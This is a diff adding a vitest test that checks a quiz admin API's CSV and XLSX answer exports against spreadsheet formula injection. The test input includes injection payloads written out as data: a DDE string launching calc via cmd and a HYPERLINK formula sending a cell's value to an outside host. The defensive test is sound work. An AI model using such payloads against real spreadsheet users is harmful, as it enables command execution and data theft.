@@ -1,6 +1,7 @@
 import { QUIZ_ADMIN_CODE } from '@club/domain/admin/quiz.schemas';
 import { QUIZ_CODE } from '@club/domain/quiz/quiz.rules';
 import { and, count, eq, inArray } from 'drizzle-orm';
+import Papa from 'papaparse';
 import sharp from 'sharp';
 import { describe, expect, it } from 'vitest';
 import yauzl from 'yauzl';
@@ -353,6 +354,32 @@ describe('office quizzes (/api/admin/quizzes)', async () => {
     const csv = await raw(`/${paged}/answers.csv`);
     expect(csv.body.trimEnd().split('\r\n')).toHaveLength(56);
     await admin$('DELETE', `/${paged}`);
+  });
+
+  it('exports answers typed like formulas as text: no CSV cell starts with = + - @ unquoted, line breaks included; XLSX strings stay strings', async () => {
+    const created = await admin$('POST', '', { ...body, title_es: 'Fórmulas' });
+    const id: number = created.body.data.id;
+    const link: string = (await admin$('POST', `/${id}/links`, { kind: 'general' })).body.data.id;
+    const hostile = ['=1+2', '+34 600 000 000', '-2+3', '@SUM(A1:A9)', "=cmd|' /C calc'!A0"];
+    const note = '=HYPERLINK("http://x.example/?"&C2,"Ver")\nGracias';
+    for (const text of hostile) expect((await answer(link, { text, textarea: note, radio: 'fadura' })).body).toMatchObject({ success: 1 });
+
+    const csv = await raw(`/${id}/answers.csv`);
+    expect(csv.statusCode).toBe(200);
+    const cells = Papa.parse<string[]>(csv.body.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
+    expect(cells).toHaveLength(hostile.length + 1);
+    for (const cell of cells.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
+    // Each answer comes back whole behind the apostrophe that makes it text.
+    expect(cells.slice(1).map((row) => [row[4], row[5]])).toEqual(hostile.map((text) => [`'${text}`, `'${note}`]));
+
+    // The workbook: every text a shared string (t="s"), no formula element anywhere.
+    const sheet = await unzip((await raw(`/${id}/answers.xlsx`)).rawPayload);
+    const rows = sheet.get('xl/worksheets/sheet1.xml')!.toString('utf8');
+    expect(rows).not.toContain('<f>');
+    expect([...rows.matchAll(/<c [^>]*\bt="([^"]+)"/g)].map((m) => m[1]).filter((t) => t !== 's')).toEqual([]);
+    const strings = sheet.get('xl/sharedStrings.xml')!.toString('utf8');
+    for (const text of [...hostile, note]) expect(strings).toContain(`<t>${text.replaceAll('&', '&amp;')}</t>`);
+    await admin$('DELETE', `/${id}`);
   });
 
   it('draws link ids that never start like a spreadsheet formula, so the exports show them as they are', async () => {
